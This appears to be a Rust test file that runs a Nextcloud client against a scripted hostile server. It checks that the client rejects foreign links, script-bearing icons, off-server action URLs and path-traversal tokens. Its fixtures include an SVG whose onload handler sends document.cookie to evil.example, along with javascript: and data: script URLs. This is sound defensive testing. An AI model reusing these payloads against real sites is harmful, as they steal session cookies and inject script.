//! Hostile answers to the services' requests, from the harness's scripted
//! bad server: each is refused with a clear message and the rest is used;
//! no credentials go to an address that is not the member's server.

use cc_account::{HttpConfig, NextcloudClient};
use cc_dav::Credentials;
use cc_harness::hostile::{Action, Behaviour, Body, HostileServer, Reply, Request};
use cc_services::notices::{self, NoticeAction};
use cc_services::{icon, meeting, navigation, office};
use url::Url;

fn ocs(data: &str) -> Reply {
    Reply::new(
        200,
        format!(r#"{{"ocs":{{"meta":{{"status":"ok","statuscode":200,"message":"OK"}},"data":{data}}}}}"#),
    )
    .header("Content-Type", "application/json")
}

fn creds() -> Credentials {
    Credentials {
        user: "ana".into(),
        password: "app-password".into(),
    }
}

fn client(server: &HostileServer) -> NextcloudClient {
    let base = Url::parse(&format!("{}/", server.base_url())).unwrap();
    NextcloudClient::new(&base, &HttpConfig::default()).unwrap()
}

const SCRIPTED_SVG: &str = r#"<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8" onload="fetch('https://evil.example/?c='+document.cookie)"><rect width="8" height="8"/></svg>"#;

#[tokio::test]
async fn a_navigation_with_foreign_links_and_a_scripted_icon_keeps_the_rest() {
    let server = HostileServer::start(Behaviour::script(|req: &Request, _| {
        let base = format!("http://{}", req.header("host").unwrap_or("127.0.0.1"));
        if req.path.starts_with("/ocs/v2.php/core/navigation/apps") {
            Action::Reply(ocs(&format!(
                r#"[{{"id":"files","order":0,"href":"{base}/index.php/apps/files/","icon":"{base}/apps/files/img/app.svg","name":"Files"}},
                    {{"id":"evil","order":1,"href":"javascript:alert(document.cookie)","icon":"","name":"Evil"}},
                    {{"id":"data","order":2,"href":"data:text/html,<script>alert(1)</script>","name":"Data"}},
                    {{"id":"ext","order":3,"href":"https://forum.example/","icon":"https://tracker.example/p.svg","name":"Forum"}}]"#
            )))
        } else if req.path == "/apps/files/img/app.svg" {
            Action::Reply(Reply::new(200, SCRIPTED_SVG).header("Content-Type", "image/svg+xml"))
        } else {
            Action::Reply(Reply::new(404, ""))
        }
    }));
    let c = client(&server);
    let nav = navigation::fetch(&c, &creds()).await.unwrap();
    let ids: Vec<&str> = nav.apps.iter().map(|a| a.id.as_str()).collect();
    assert_eq!(ids, ["files", "ext"]);
    assert_eq!(nav.refused.len(), 2, "{:?}", nav.refused);
    assert!(nav.refused.iter().all(|r| r.contains("not a web address")));
    assert_eq!(nav.apps[1].icon, None, "an icon elsewhere is never fetched");
    // The icon with a script: fetched without credentials, refused.
    let (_, bytes) = c
        .get_bytes(
            nav.apps[0].icon.as_ref().unwrap(),
            None,
            icon::MAX_ICON_BYTES,
        )
        .await
        .unwrap();
    let err = icon::to_png(&bytes, 64).unwrap_err();
    assert!(err.contains("an event handler"), "{err}");
    let icon_request = server
        .requests()
        .into_iter()
        .find(|r| r.path.ends_with("app.svg"))
        .unwrap();
    assert_eq!(icon_request.header("authorization"), None);
}

#[tokio::test]
async fn malformed_huge_and_cut_answers_are_errors_not_hangs() {
    for action in [
        Action::Reply(Reply::new(200, "<html>not json").header("Content-Type", "text/html")),
        Action::Reply(ocs(r#"{"not":"a list"}"#)),
        Action::Reply(Reply::generated(
            200,
            Body::generated(None, |i| (i < 600).then(|| vec![b'['; 8192])),
        )),
        Action::CutAfter(ocs("[]"), 10),
    ] {
        let server = HostileServer::start(Behaviour::always(action));
        let err = navigation::fetch(&client(&server), &creds())
            .await
            .unwrap_err();
        assert!(!err.to_string().is_empty());
    }
}

#[tokio::test]
async fn one_time_urls_and_rooms_must_be_the_servers_own() {
    let server = HostileServer::start(Behaviour::script(|req: &Request, _| {
        if req.path.contains("directEditing/open") {
            Action::Reply(ocs(r#"{"url":"https://evil.example/steal"}"#))
        } else if req.path.contains("spreed") {
            Action::Reply(ocs(r#"{"token":"../../admin"}"#))
        } else {
            Action::Reply(Reply::new(404, ""))
        }
    }));
    let c = client(&server);
    let err = office::open(&c, &creds(), "/Acta.odt", "richdocuments", Some("12"))
        .await
        .unwrap_err();
    assert!(
        err.to_string().contains("not on the member's server"),
        "{err}"
    );
    let err = meeting::talk_room(&c, &creds(), "Reunió")
        .await
        .unwrap_err();
    assert!(err.to_string().contains("no room token"), "{err}");
    // No direct editing on a server (404): no editors, no error.
    assert_eq!(
        office::editors(&c, &creds()).await.unwrap(),
        office::Editors::default()
    );
}

#[tokio::test]
async fn an_action_pointing_elsewhere_is_not_sent() {
    let server = HostileServer::start(Behaviour::always(Action::Reply(ocs("[]"))));
    let c = client(&server);
    let before = server.request_count();
    let elsewhere = NoticeAction {
        label: "Accept".into(),
        link: "https://evil.example/ocs/v2.php/accept".into(),
        method: "POST".into(),
        primary: true,
    };
    let err = notices::act(&c, &creds(), &elsewhere).await.unwrap_err();
    assert!(
        err.to_string().contains("not on the member's server"),
        "{err}"
    );
    let script = NoticeAction {
        method: "WEB".into(),
        link: "javascript:alert(1)".into(),
        ..elsewhere.clone()
    };
    assert!(notices::act(&c, &creds(), &script).await.is_err());
    assert_eq!(server.request_count(), before, "nothing was sent");
    // On the server: sent, with the credentials.
    let here = NoticeAction {
        link: format!(
            "{}/ocs/v2.php/apps/files_sharing/api/v1/shares/pending/7",
            server.base_url()
        ),
        ..elsewhere
    };
    assert_eq!(
        notices::act(&c, &creds(), &here).await.unwrap(),
        notices::Acted::Done
    );
    let sent = server.requests().pop().unwrap();
    assert_eq!(sent.method, "POST");
    assert!(sent.header("authorization").is_some());
}
